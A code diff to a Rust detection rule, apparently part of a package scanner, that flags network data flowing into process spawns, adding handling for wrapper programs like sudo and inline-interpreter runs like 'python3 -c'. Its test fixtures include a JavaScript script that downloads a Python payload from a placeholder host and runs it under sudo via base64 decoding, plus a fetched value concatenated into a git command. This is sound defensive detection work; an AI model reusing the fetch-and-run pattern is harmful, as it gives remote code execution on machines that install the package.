@@ -13,7 +13,9 @@ diligence_finding::declare_rule! {
     /// ## What it detects
     /// A value-flow path from data received over the network (HTTP responses, socket and WebSocket messages,
     /// through callbacks, promise chains, `await`, helpers and modules) into `eval`/`Function`/`vm`, a module
-    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium); a
+    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium, unless
+    /// the program is a wrapper such as `sudo`/`env` or the command runs an interpreter on inline code such as
+    /// `python3 -c`); a
     /// download written to a file that the package then runs or loads (high, critical when the process is
     /// detached with its output ignored; high too when the download was fetched with TLS verification off by a
     /// file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
@@ -52,6 +54,26 @@ const SHELLS: &[&str] = &[
     "perl",
 ];
 
+/// Programs that run the command that follows them (`sudo python3 -c …`): the program that
+/// matters is the next word.
+const WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "nice", "timeout", "xargs", "stdbuf", "exec",
+];
+
+/// True when a command line runs an interpreter on inline code (`python3 -c`, `node -e`,
+/// `perl -e`, `sh -c`): network data in that command line is code, not an argument.
+fn runs_inline_code(command: &str) -> bool {
+    let words: Vec<&str> = command.split_whitespace().collect();
+    words.windows(2).any(|w| {
+        let prog = w[0].rsplit('/').next().unwrap_or(w[0]);
+        let interp = SHELLS
+            .contains(&prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
+            || SHELLS.contains(&prog)
+            || matches!(prog, "ruby" | "php");
+        interp && matches!(w[1], "-c" | "-e" | "--eval" | "-p")
+    })
+}
+
 /// Paths from network data to code, commands and module loads; downloads written then run.
 fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
     let mut out = Vec::new();
@@ -66,7 +88,14 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             .is_some_and(|(_, url)| !crate::text::url_host(url).is_empty());
         let sev = match path.sink {
             SinkKind::Exec => match path.path_key.as_deref() {
-                Some(prog) if !SHELLS.contains(&prog) && !prog.starts_with('$') => Severity::Medium,
+                Some(prog)
+                    if !SHELLS.contains(&prog)
+                        && !prog.starts_with('$')
+                        && !WRAPPERS.contains(&prog)
+                        && !runs_inline_code(&path.to.what) =>
+                {
+                    Severity::Medium
+                }
                 _ => Severity::Critical,
             },
             // A module loader evaluates the script whose URL it was given; a dev server's client
@@ -556,5 +585,39 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             ),
         ]);
         assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// A CI-gated post-install script: a fetched Python script run by `sudo python3 -c` inside
+    /// a shell command line (tj-actions/changed-files 2025 memory dump).
+    #[test]
+    fn positive_fetched_script_run_by_sudo_python() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "post.js",
+                "const { execSync } = require('child_process');\nconst https = require('https');\nfunction get(u) { return new Promise((res) => { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => res(b)); }); }); }\n(async () => {\n  const py = await get('https://gist.example.com/raw/x.py');\n  execSync(`sudo python3 -c \"$(printf '%s' '${Buffer.from(py).toString('base64')}' | base64 -d)\"`);\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A version fetched from the registry passed to `git checkout`: an argument of a fixed
+    /// program, medium.
+    #[test]
+    fn negative_fetched_value_as_a_git_argument() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tag.js",
+                "const { execSync } = require('child_process');\nmodule.exports = async function pin() {\n  const r = await fetch('https://api.example.com/latest');\n  const { tag } = await r.json();\n  execSync('git checkout ' + tag);\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
     }
 }
